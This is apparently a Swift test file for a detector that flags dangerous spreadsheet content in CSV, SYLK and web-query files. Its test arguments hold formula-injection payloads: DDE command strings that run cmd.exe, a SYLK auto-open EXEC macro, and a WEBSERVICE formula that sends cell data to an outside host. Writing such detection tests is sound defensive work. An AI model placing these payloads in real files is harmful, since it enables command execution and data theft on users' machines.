import Formats
import Testing

@Suite struct TableTextTests {
  private func found(_ text: String) -> TableText { TableText(Array(text.utf8).span) }
  private func begins(_ text: String) -> Bool { TableText.isBeginning(Array(text.utf8).span) }
  private func isTable(_ name: String) -> Bool { TableText.isTable(named: Array(name.utf8).span) }

  @Test(arguments: [
    "=cmd|'/c calc'!A1", "name,sum\na,=cmd|'/c calc'!A1\n", "a;\"=cmd|'/c calc.exe'!A1\";b\r\n",
    "+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0", "@SUM(1+1)*cmd|'/c calc'!A0",
    "a\t =cmd|'/c a, b'!_x\n",
    "=MSEXCEL|'\\..\\Windows\\System32\\cmd.exe /c calc'!''", "=winword|system!topics",
    "1,=DDE(\"cmd\";\"/c calc\";\"a\")", "x\n=WEBSERVICE(\"http://x/?\"&A1)",
    "ID;PWXL;N;E\nC;Y1;X1;Ecmd|'/c calc'!A1\nE\n", "\u{FEFF}=cmd|'/c calc'!A1",
  ])
  func aFormulaThatAsksAnotherProgramIsAnExchange(_ text: String) {
    #expect(found(text) == .exchange)
  }

  @Test(arguments: [
    "a,b\n1,=SUM(A1:A2)\n", "a|b|c!\n", "- one a|b, or none!\n", "=HYPERLINK(\"http://x\";\"y\")",
    "x=cmd|'/c calc'!A1", "text =cmd|'/c calc'!A1", "=cmd|'/c calc'\nwell!", "=a|b c!d", "",
    "ID;PWXL\nC;Y1;X1;K\"run (it)\"\nE\n", "1,dde(a)\n", "=", "|", "!", "(",
  ])
  func otherTextsAreNone(_ text: String) {
    #expect(found(text).isEmpty)
  }

  @Test func formulasThatOnlyMacrosHaveAreMacrosInTablesOfMultiplan() {
    #expect(found("ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;EEXEC(\"calc\")\nE\n") == .macros)
    #expect(found("a,=EXEC(\"calc\")").isEmpty)
  }

  @Test func aWebQueryIsOneByItsFirstLines() {
    for text in ["WEB\r\n1\r\nhttp://x/a\r\n", "web\n1\n\\\\host\\a\n"] {
      #expect(found(text) == .query && begins(text))
    }
    #expect(found("WEB\n1\nabc\n").isEmpty && found("Website 1 http").isEmpty)
  }

  @Test func namesAndBeginningsTellTables() {
    for name in ["a.csv", "dir/A.SLK ", "a.b.iqy"] {
      #expect(isTable(name))
    }
    for name in ["csv", "a.txt", "a.csv.gz", ""] {
      #expect(!isTable(name))
    }
    #expect(begins("  =a"))
    #expect(!begins("- a"))
  }
}
